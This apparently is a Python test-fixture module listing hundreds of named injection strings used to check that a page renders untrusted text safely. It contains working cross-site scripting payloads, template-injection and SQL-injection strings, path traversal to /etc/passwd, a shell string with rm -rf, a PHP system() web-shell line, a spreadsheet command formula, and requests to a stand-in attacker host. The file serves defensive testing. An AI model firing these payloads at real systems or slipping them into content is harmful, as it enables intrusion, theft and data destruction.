"""Texts that try to be more than text, once they stand in a page.

What could run sets `window.pwned` or the title, or opens a dialog; what could fetch asks for
`http://attacker.invalid/`. So a browser tells of each that got through.
"""

_RUN = "window.pwned=1;document.title='pwned'"
_SITE = "http://attacker.invalid"
_ZALGO = "".join(letter + "\u0300\u0315\u031b\u0347\u0489" * 6 for letter in "zalgo comes")

_SCRIPTS = {
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT>{_RUN}</SCRIPT>",
    "script in mixed case, with space": f"<ScRiPt\t\n type='text/javascript' >{_RUN}</sCrIpT\n>",
    "script without an end": f"<script>{_RUN}//",
    "script within script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script with a slash for a space": f"<script/x>{_RUN}</script/x>",
    "script with a NUL within": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "script from elsewhere": f"<script src={_SITE}/script.js></script>",
    "script from the same scheme": "<script src=//attacker.invalid/scheme.js></script>",
    "module": f"<script type=module>import '{_SITE}/module.js';{_RUN}</script>",
    "noscript breaker": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    "doubled bracket": f"<<script>{_RUN}//<</script>",
    "script in UTF-7": "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "fullwidth brackets": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "overlong brackets": f"\u00c0\u00bcscript\u00c0\u00be{_RUN}",
}

_HANDLERS = {
    "image that fails": f"<img src=x onerror={_RUN}>",
    "image with quotes": f'<img src="x" onerror="{_RUN}">',
    "image with slashes": f"<img/src/onerror={_RUN}>",
    "image from elsewhere": f"<img src={_SITE}/image.png srcset='{_SITE}/set.png 2x'>",
    "body that loads": f"<body onload={_RUN}>",
    "svg that loads": f"<svg onload={_RUN}>",
    "svg with script": f"<svg><script>{_RUN}</script></svg>",
    "svg that animates": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg that uses": f'<svg><use href="{_SITE}/use.svg#x"></use><image href="{_SITE}/i.png"/></svg>',
    "svg breaker": f"</text></g></svg><img src=x onerror={_RUN}><svg><g><text>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'>",
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>"
    ),
    "math link": "<math href='javascript:window.pwned=1'><mi>x</mi></math>",
    "focus": f"<input autofocus onfocus={_RUN}>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "video": f"<video src={_SITE}/v.mp4 poster={_SITE}/p.png><source onerror={_RUN}></video>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "dialog": "<img src=x onerror=alert(document.domain)><script>confirm(1);prompt(1)</script>",
}

_ELEMENTS = {
    "iframe": f"<iframe src={_SITE}/frame></iframe>",
    "iframe with a document": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "iframe of a script": f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    "object": f"<object data={_SITE}/object type=text/html></object>",
    "embed": f"<embed src={_SITE}/embed type=image/svg+xml>",
    "base": f"<base href={_SITE}/base/><a href=x>x</a>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={_SITE}/refresh">',
    "refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>1</script>'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *; style-src 'none'\">",
    "link": f"<link rel=stylesheet href={_SITE}/link.css><link rel=prefetch href={_SITE}/prefetch>",
    "style": f"<style>*{{color:red!important}}body{{background:url({_SITE}/style.png)}}</style>",
    "style import": f"<style>@import '{_SITE}/import.css';</style>",
    "form": f"<form id=f action={_SITE}/form><button>x</button></form><script>f.submit()</script>",
    "template": "<template><script>window.pwned=1</script></template><slot></slot>",
    "table breaker": "</td></tr></tbody></table></div></section></main><h1>pwned</h1>",
    "plaintext": "<plaintext>",
    "textarea": "<textarea>",
    "xmp": "<xmp><listing><noembed><noframes>",
    "select": "</select><select><option>",
}

_BREAKERS = {
    "end of a title": f"</title><script>{_RUN}</script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a body": f"</body></html><script>{_RUN}</script>",
    "comment": "<!-- all that follows is gone",
    "comment that ends": f"--><script>{_RUN}</script><!--",
    "comment that ends oddly": f"<!--><img src=x onerror={_RUN}>--!><!---->",
    "character data": f"<![CDATA[<script>{_RUN}</script>]]>",
    "end of character data": f"]]><script>{_RUN}</script>",
    "conditional comment": f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    "processing instruction": f'<?xml-stylesheet href="{_SITE}/xsl"?><?php system($_GET[0]) ?>',
    "entities of a document type": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{_SITE}/entity">]>&e;',
    "double quote": f'" autofocus tabindex=1 onfocus="{_RUN}" x="',
    "single quote": f"' autofocus tabindex=1 onfocus='{_RUN}' x='",
    "backtick": f"` autofocus tabindex=1 onfocus=`{_RUN}` x=`",
    "double quote and bracket": f'"><img src=x onerror={_RUN}>',
    "single quote and bracket": f"'><svg/onload={_RUN}>",
    "bracket alone": ">",
    "backslash and quotes": f"\\\"\\'\\`;{_RUN}//",
    "label reference": '" aria-labelledby="part-1" id="part-1',
    "style attribute": f'" style="position:fixed;inset:0;background:url({_SITE}/attribute.png)',
    "url in a style": f"url({_SITE}/url.png)",
    "end of a rule": f"}} body {{ background: url({_SITE}/rule.png) }} :root {{ --ink: red",
    "expression": "x:expression(window.pwned=1);behavior:url(#x);-moz-binding:url(x)",
    "import": f"@import url({_SITE}/at.css);",
    "script address": f"javascript:{_RUN}",
    "script address with breaks": f"java\nscript\t:{_RUN}",
    "data address": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "address": f"{_SITE}/address https://attacker.invalid www.attacker.invalid a@attacker.invalid",
}

_LANGUAGES = {
    "Jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{#",
    "Jinja that fails": "{{ undefined_name.attribute }}{% raise %}",
    "Jinja marked safe": "{{ '<script>window.pwned=1</script>'|safe }}{% raw %}",
    "Angular": "{{constructor.constructor('window.pwned=1')()}}<x ng-app ng-csp>{{$on}}</x>",
    "Vue": '<div v-html="\'<img src=x onerror=window.pwned=1>\'" @click="pwned">{{ _c }}</div>',
    "ERB": "<%= `id` %><%- include('x') %>",
    "handlebars": '{{#with "s" as |string|}}{{{string}}}{{/with}}{{> partial}}',
    "template literal": "${window.pwned=1}#{7*7}$(id)`id`",
    "format strings": "%s %d %n %(x)s {0} {x!r} {page.__class__} %%",
    "mathtext": r"$\frac{ $\undefined{x}$ $$ \$ a^2_{b",
    "Markdown": "# x\n\n**b** ~~s~~ [l](javascript:window.pwned=1) ![i](http://attacker.invalid) | a |",
    "database query": "Robert'); DROP TABLE answers;-- ' OR '1'='1",
    "path": "../../../../etc/passwd\\..\\..\\windows\\win.ini%00file:///etc/passwd",
    "shell": "; rm -rf /tmp/x && $(id) | `id` > /dev/null &",
    "JSON": '"}],"after":{"x":[null,1e999]},"</script>',
    "spreadsheet": '=HYPERLINK("http://attacker.invalid/cell","x")+cmd|\' /C calc\'!A0',
}

_ENTITIES = {
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp; &quot; &#39; &nbsp;|",
    "entities, encoded twice": "&amp;lt;img src=x onerror=window.pwned=1&amp;gt; &amp;amp;",
    "entities in numbers": "&#60;script&#62;window.pwned=1&#x3C;/script&#x3e;&#0000060&#x00003c",
    "entities without an end": "&lt &gt &amp &copy &notit; &#x &# &",
    "entities of controls": "&#0; &#8; &#x202e; &#xd800; &#x110000; &NewLine; &Tab; &ZeroWidthSpace;",
    "percent": "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "escapes": r"\u003cscript\u003ewindow.pwned=1\x3c/script\x3e \3c script\3e",
}

_CHARACTERS = {
    "override of the direction": "\u202egnp.exe\u202c \u202dcba",
    "override without an end": "\u202e\u202b\u202aleft over",
    "isolates": "\u2066a\u2067b\u2068c\u2069\u2069\u2069 \u200f\u200e\u061c d",
    "right to left": "שלום עולם (مرحبا) 123 abc",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg\u180eh",
    "blank that is not": "\u200b\u2063\u3164\u115f\u2800",
    "stacked marks": _ZALGO,
    "mark without a letter": "\u0301\u20dd",
    "NUL": "before\x00after",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f",
    "upper controls": "".join(map(chr, range(0x80, 0xA0))),
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x08\x08\x9b2J",
    "line ends": "a\nb\rc\r\nd\x0be\x0cf\u0085g\u2028h\u2029i\n",
    "white space": "\u00a0\u2003\u3000a  b\t\tc\u1680d\u205fe ",
    "lone surrogates": "a\ud800b\udfffc\udc80\udcffd",
    "noncharacters": "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0\ufdef",
    "mark of byte order": "\ufeff<script>window.pwned=1</script>",
    "replacement and private": "\ufffd\ufffc\ue000\U000f0000\U0010fffd",
    "tags": "\U000e0001\U000e0041\U000e007f\ufe0f\U000e0100",
    "emoji": "👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🇩🇪👍🏿1️⃣🧑‍🤝‍🧑",
    "mixed scripts": "Ω≈ç Жизнь 東京タワー 한국어 ไทย हिन्दी தமிழ் ខ្មែរ አማርኛ ქართული Ǆ ﷽ 𝔘𝔫𝔦 𒐫",
    "wide letters": "東京都千代田区永田町一丁目七番一号国会議事堂前駅出口二番" * 3,
    "widest signs": "﷽𒐫⸻" + "ꧻ﷽" * 300,
    "look-alikes": "раураl аррӏе ｓｃｒｉｐｔ ﬁ ſ K Å",
}

_SIZES = {
    "long word": "x" * 10_000,
    "long wide word": "W" * 10_000,
    "long word of wide letters": "漢" * 10_000,
    "long address": f"{_SITE}/" + "a/" * 5000,
    "long text of many lines": "A line of words that goes on for a while.\n" * 500,
    "many line ends": "\n" * 3000 + "end",
    "many brackets": "<" * 5000,
    "many entities": "&amp;" * 2000,
    "many blanks": "a" + "\u00a0" * 3000 + "b",
    "long word with marks": "e\u0301\u0327" * 3000,
    "many joiners": "👩\u200d" * 2000,
    "many elements": "<b><i>" * 1000,
    "one letter": "x",
    "bars": "|" * 200 + "-|-" * 50,
}

PAYLOADS = {
    **_SCRIPTS,
    **_HANDLERS,
    **_ELEMENTS,
    **_BREAKERS,
    **_LANGUAGES,
    **_ENTITIES,
    **_CHARACTERS,
    **_SIZES,
}
"""Each text under a name that says what it tries to be."""

NOTICED = {
    "script": "script",
    "image that fails": "script",
    "svg that loads": "script",
    "end of a style": "script",
    "dialog": "dialog",
    "script from elsewhere": "request",
    "image from elsewhere": "request",
    "iframe": "request",
    "refresh": "request",
    "style": "request",
    "link": "request",
}
"""What each of these does where it gets into a page as it is: nobody would miss what never works."""
